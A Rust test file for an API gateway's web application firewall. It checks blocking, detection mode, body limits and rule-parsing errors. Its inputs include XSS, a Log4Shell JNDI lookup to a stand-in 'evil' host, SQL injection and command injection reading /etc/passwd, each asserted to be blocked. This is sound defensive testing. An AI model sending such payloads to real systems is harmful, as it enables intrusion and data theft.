@@ -1,0 +1,191 @@
+//! The WAF phase on a real gateway: the built-in baseline, detection mode, bodies and
+//! their limit, the stock CRS (when ../shared has it), and rule errors in the config.
+
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use bytes::Bytes;
+use http_body_util::{BodyExt, Full};
+use hyper_util::client::legacy::connect::HttpConnector;
+use hyper_util::client::legacy::Client;
+use hyper_util::rt::TokioExecutor;
+use rampart_store::LocalState;
+
+use crate::support::*;
+
+const ROUTES: &str = r#"
+[[routes]]
+name = "guarded"
+match = { path_prefix = "/app" }
+upstream = "app"
+waf = { body_limit = 64 }
+[[routes]]
+name = "watching"
+match = { path_prefix = "/watch" }
+upstream = "app"
+waf = { mode = "detect" }
+[[routes]]
+name = "streaming"
+match = { path_prefix = "/upload" }
+upstream = "app"
+waf = { body_limit = 64, on_large_body = "pass" }
+"#;
+
+async fn post(addr: std::net::SocketAddr, path: &str, body: &str) -> u16 {
+    let client: Client<HttpConnector, Full<Bytes>> =
+        Client::builder(TokioExecutor::new()).build(HttpConnector::new());
+    let response = client
+        .request(
+            http::Request::post(format!("http://{addr}{path}"))
+                .header("content-type", "application/x-www-form-urlencoded")
+                .body(Full::new(Bytes::from(body.to_string())))
+                .expect("request"),
+        )
+        .await
+        .expect("response");
+    let status = response.status().as_u16();
+    let _ = response.into_body().collect().await;
+    status
+}
+
+#[tokio::test]
+async fn the_baseline_blocks_attacks_detect_mode_logs_and_bodies_are_bounded() {
+    let up = mirror().await;
+    let setup = gateway(store().await, Arc::new(LocalState::default()), up, ROUTES).await;
+    let blocked = get(
+        setup.addr,
+        "/app/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        &[],
+    )
+    .await;
+    assert_eq!(blocked.status, 403);
+    assert_eq!(blocked.body["type"], "urn:rampart:problem:waf-blocked");
+    assert!(blocked.body["request_id"].is_string());
+    assert_eq!(
+        get(setup.addr, "/app/search?q=blue+shirts", &[])
+            .await
+            .status,
+        200
+    );
+    // Headers are inspected too.
+    let log4j = get(
+        setup.addr,
+        "/app/",
+        &[("x-api-version", "${jndi:ldap://evil/a}")],
+    )
+    .await;
+    assert_eq!(log4j.status, 403);
+    // Detection mode lets the request through and counts the match.
+    assert_eq!(
+        get(setup.addr, "/watch/?q=%3Cscript%3E", &[]).await.status,
+        200
+    );
+    // Bodies: an attack in a form body, a body over the limit, one passed uninspected.
+    assert_eq!(
+        post(
+            setup.addr,
+            "/app/login",
+            "user=a&pass=x%27+or+%271%27%3D%271"
+        )
+        .await,
+        403
+    );
+    assert_eq!(post(setup.addr, "/app/comment", "text=hello").await, 200);
+    let big = format!("text={}", "a".repeat(200));
+    assert_eq!(post(setup.addr, "/app/comment", &big).await, 413);
+    assert_eq!(post(setup.addr, "/upload/file", &big).await, 200);
+
+    let metrics = setup.metrics.encode_prometheus();
+    for line in [
+        "rampart_waf_rule_matches_total{route=\"guarded\",rule=\"100002\"} 1",
+        "rampart_waf_rule_matches_total{route=\"watching\",rule=\"100002\"} 1",
+        "rampart_waf_rule_matches_total{route=\"guarded\",rule=\"100006\"} 1",
+        "rampart_guard_denials_total{route=\"guarded\",reason=\"waf_blocked\"} 3",
+        "rampart_guard_denials_total{route=\"guarded\",reason=\"waf_body_too_large\"} 1",
+    ] {
+        assert!(metrics.contains(line), "{line} missing:\n{metrics}");
+    }
+}
+
+fn crs_dir() -> Option<PathBuf> {
+    let from_env = std::env::var_os("RAMPART_SHARED_DIR").map(PathBuf::from);
+    let beside = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .ancestors()
+        .map(|a| a.join("shared"))
+        .find(|d| d.join("crs/rules").is_dir());
+    let dir = from_env.or(beside)?.join("crs");
+    dir.join("rules").is_dir().then_some(dir)
+}
+
+#[tokio::test]
+async fn the_stock_crs_blocks_by_anomaly_score() {
+    let Some(crs) = crs_dir() else {
+        assert!(
+            std::env::var_os("RAMPART_REQUIRE_SHARED").is_none(),
+            "the CRS is required here but not found"
+        );
+        eprintln!("SKIPPED (shared data): the CRS was not found; set RAMPART_SHARED_DIR");
+        return;
+    };
+    let dir = std::env::temp_dir().join(format!("rampart-guard-crs-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("dir");
+    let entry = dir.join("crs.conf");
+    std::fs::write(
+        &entry,
+        format!(
+            "Include {}\nInclude {}/rules/*.conf\n",
+            crs.join("crs-setup.conf.example").display(),
+            crs.display()
+        ),
+    )
+    .expect("write");
+    let up = mirror().await;
+    let routes = format!(
+        "[[routes]]\nname = \"crs\"\nupstream = \"app\"\nwaf = {{ rules = \"{}\" }}\n",
+        entry.display()
+    );
+    let setup = gateway(store().await, Arc::new(LocalState::default()), up, &routes).await;
+    let ua = [("user-agent", "Mozilla/5.0"), ("accept", "text/html")];
+    assert_eq!(
+        get(setup.addr, "/products?id=42&sort=price", &ua)
+            .await
+            .status,
+        200
+    );
+    let xss = get(
+        setup.addr,
+        "/products?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+        &ua,
+    )
+    .await;
+    assert_eq!(xss.status, 403);
+    let rce = get(setup.addr, "/products?file=;cat%20/etc/passwd", &ua).await;
+    assert_eq!(rce.status, 403);
+    let metrics = setup.metrics.encode_prometheus();
+    assert!(
+        metrics.contains("rampart_waf_rule_matches_total{route=\"crs\",rule=\"949110\"} 2"),
+        "{metrics}"
+    );
+}
+
+#[test]
+fn a_rule_file_that_does_not_parse_is_a_config_error_naming_file_and_line() {
+    let dir = std::env::temp_dir().join(format!("rampart-guard-badrules-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("dir");
+    std::fs::write(
+        dir.join("rules.conf"),
+        "SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\nSecRule ARGS \"@nope\" \"id:2\"\n",
+    )
+    .expect("write");
+    let source = "listeners = [{ name = \"public\", address = \"127.0.0.1:0\" }]\n\
+                  [upstreams.app]\ntargets = [\"http://127.0.0.1:9\"]\n\
+                  [[routes]]\nupstream = \"app\"\nwaf = { rules = \"rules.conf\", paranoia = 7 }\n";
+    let errors = rampart_config::compile_str(source, &dir)
+        .expect_err("refused")
+        .to_string();
+    assert!(
+        errors.contains("rules.conf:2: SecRule: unknown operator @nope"),
+        "{errors}"
+    );
+    assert!(errors.contains("paranoia"), "{errors}");
+}
